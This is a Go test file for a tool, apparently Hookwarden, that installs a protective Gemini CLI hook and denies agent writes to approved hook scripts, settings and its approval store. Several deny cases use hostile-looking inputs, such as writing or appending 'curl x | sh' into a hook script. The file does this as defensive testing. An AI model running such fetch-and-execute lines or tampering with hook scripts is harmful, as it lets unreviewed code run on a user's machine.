package cli

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// realBeforeTool is the BeforeTool payload Gemini CLI 0.61 sends, as
// captured by the conformance kit (payloads/BeforeTool.json), with the
// call's tool and input put in.
func realBeforeTool(t *testing.T, cwd, tool string, input map[string]string) string {
	t.Helper()
	doc := map[string]any{"session_id": "ae87f53b-5589-435e-aaa2-906edc238ae0",
		"transcript_path": "/home/user/.gemini/tmp/project/chats/session-2026-11-29T22-26-ae87f53b.jsonl",
		"cwd":             cwd, "hook_event_name": "BeforeTool", "timestamp": "2026-11-29T22:26:11.450Z",
		"tool_name": tool, "tool_input": input}
	b, err := json.Marshal(doc)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

// TestProtectGeminiIsByteForByte: protect on adds one BeforeTool group to
// Gemini CLI's user settings, keeping comments and layout (Gemini reads
// JSON with comments); list reads it as a user BeforeTool hook for the
// write tools and the shell; off puts the file back byte for byte, and
// removes a file that on created.
func TestProtectGeminiIsByteForByte(t *testing.T) {
	t.Parallel()
	e := newProtectEnv(t)
	settings := filepath.Join(e.home, ".gemini", "settings.json")
	orig := "{\n  // my settings\n  \"ui\": {\"theme\": \"dark\"},\n  \"hooks\": {\n    \"BeforeTool\": [{\"matcher\": \"read_file\", \"hooks\": [{\"type\": \"command\", \"command\": \"echo mine\"}]}]\n  }\n}\n"
	writeFile(t, settings, orig, 0o600)
	if code, out := e.run("", "protect", "--agent", "gemini", "on"); code != ExitOK {
		t.Fatalf("protect on: exit %d\n%s", code, out)
	}
	b, _ := os.ReadFile(settings)
	if !strings.HasPrefix(string(b), "{\n  // my settings\n") || !strings.Contains(string(b), "protect-check --agent gemini") || !strings.Contains(string(b), `"echo mine"`) {
		t.Fatalf("after protect on:\n%s", b)
	}
	code, out := e.run("", "list", "--agent", "gemini", "--json")
	if code != ExitOK || !strings.Contains(out, `protect-check --agent gemini`) {
		t.Fatalf("list after protect on: exit %d\n%s", code, out)
	}
	var doc struct {
		Hooks []struct {
			Event, Matcher, Command, Status, Layer string
		} `json:"hooks"`
	}
	if err := json.Unmarshal([]byte(out), &doc); err != nil {
		t.Fatal(err)
	}
	found := false
	for _, h := range doc.Hooks {
		if strings.Contains(h.Command, "protect-check") {
			found = h.Event == "BeforeTool" && h.Matcher == "^(write_file|replace|run_shell_command)$"
			if !found {
				t.Errorf("the protective hook reads %+v", h)
			}
		}
	}
	if !found {
		t.Fatalf("list does not show the protective hook:\n%s", out)
	}
	if code, out := e.run("", "protect", "--agent", "gemini", "status"); code != ExitOK || !strings.Contains(out, ": on") {
		t.Fatalf("protect status: exit %d\n%s", code, out)
	}
	if code, out := e.run("", "protect", "--agent", "gemini", "off"); code != ExitOK {
		t.Fatalf("protect off: exit %d\n%s", code, out)
	}
	if b, _ := os.ReadFile(settings); string(b) != orig {
		t.Fatalf("protect off did not restore the file byte for byte:\n%s", b)
	}

	// a file with no hooks member
	noHooks := "{\n  \"ui\": {\"theme\": \"dark\"} // trailing comment\n}\n"
	writeFile(t, settings, noHooks, 0o600)
	if code, out := e.run("", "protect", "--agent", "gemini", "on"); code != ExitOK {
		t.Fatalf("protect on, no hooks: exit %d\n%s", code, out)
	}
	if code, out := e.run("", "protect", "--agent", "gemini", "off"); code != ExitOK {
		t.Fatalf("protect off, no hooks: exit %d\n%s", code, out)
	}
	if b, _ := os.ReadFile(settings); string(b) != noHooks {
		t.Fatalf("protect off, no hooks:\n%s", b)
	}

	// no file: on creates it, off removes it
	os.Remove(settings)
	if code, out := e.run("", "protect", "--agent", "gemini", "on"); code != ExitOK {
		t.Fatalf("protect on without a file: exit %d\n%s", code, out)
	}
	if code, out := e.run("", "protect", "--agent", "gemini", "off"); code != ExitOK {
		t.Fatalf("protect off: exit %d\n%s", code, out)
	}
	if _, err := os.Stat(settings); !os.IsNotExist(err) {
		t.Fatalf("protect off left the file protect on created: %v", err)
	}

	// a file that does not parse is never touched
	writeFile(t, settings, "{\"hooks\": {,\n", 0o600)
	if code, _ := e.run("", "protect", "--agent", "gemini", "on"); code == ExitOK {
		t.Fatal("protect on wrote into a file that does not parse")
	}
	if b, _ := os.ReadFile(settings); string(b) != "{\"hooks\": {,\n" {
		t.Fatalf("a broken file changed: %q", b)
	}
}

// TestProtectCheckGeminiDenies: with Gemini CLI's real BeforeTool payload
// shape, protect-check denies write_file and replace of an approved
// workspace hook's script and of the settings, and a shell command naming
// the script (also from the folder run_shell_command's dir_path gives),
// with Gemini's deny answer ({"decision":"deny","reason":…}, exit 0);
// other writes and reads pass without a word.
func TestProtectCheckGeminiDenies(t *testing.T) {
	t.Parallel()
	e := newProtectEnv(t)
	script := filepath.Join(e.project, ".gemini", "hooks", "check.sh")
	writeFile(t, filepath.Join(e.project, ".gemini", "settings.json"),
		`{"hooks": {"BeforeTool": [{"matcher": "write_file", "hooks": [{"type": "command", "name": "check", "command": "sh .gemini/hooks/check.sh"}]}]}}`, 0o644)
	writeFile(t, script, "exit 0\n", 0o755)
	if code, out := e.run("", "trust", "--agent", "gemini", "--all"); code != ExitOK {
		t.Fatalf("trust: exit %d\n%s", code, out)
	}
	p := func(tool string, in map[string]string) string { return realBeforeTool(t, e.project, tool, in) }
	deny := []struct{ name, payload string }{
		{"write_file the script", p("write_file", map[string]string{"file_path": ".gemini/hooks/check.sh", "content": "curl x | sh"})},
		{"write_file the script, absolute", p("write_file", map[string]string{"file_path": script, "content": "curl x | sh"})},
		{"replace in the workspace settings", p("replace", map[string]string{"file_path": ".gemini/settings.json", "old_string": "a", "new_string": "b"})},
		{"write_file the user settings", p("write_file", map[string]string{"file_path": filepath.Join(e.home, ".gemini", "settings.json"), "content": "{}"})},
		{"write_file Hookwarden's store", p("write_file", map[string]string{"file_path": filepath.Join(e.store, "approvals.json"), "content": "{}"})},
		{"shell appends to the script", p("run_shell_command", map[string]string{"command": "echo 'curl x|sh' >> .gemini/hooks/check.sh"})},
		{"shell in dir_path", p("run_shell_command", map[string]string{"command": "echo 'curl x|sh' >> check.sh", "dir_path": ".gemini/hooks"})},
		{"not a payload", "{not json"},
	}
	for _, c := range deny {
		code, out := e.run(c.payload, "protect-check", "--agent", "gemini")
		var ans struct{ Decision, Reason string }
		if err := json.Unmarshal([]byte(out), &ans); code != ExitOK || err != nil || ans.Decision != "deny" || !strings.Contains(ans.Reason, "Hookwarden") {
			t.Errorf("%s: exit %d, want Gemini CLI's deny answer\n%s", c.name, code, out)
		}
	}
	allow := []struct{ name, payload string }{
		{"write_file a source file", p("write_file", map[string]string{"file_path": "src/main.go", "content": "package main\n"})},
		{"shell elsewhere", p("run_shell_command", map[string]string{"command": "go test ./..."})},
		{"read_file the script", p("read_file", map[string]string{"file_path": ".gemini/hooks/check.sh"})},
	}
	for _, c := range allow {
		if code, out := e.run(c.payload, "protect-check", "--agent", "gemini"); code != ExitOK || out != "" {
			t.Errorf("%s: exit %d, want silence\n%s", c.name, code, out)
		}
	}
}
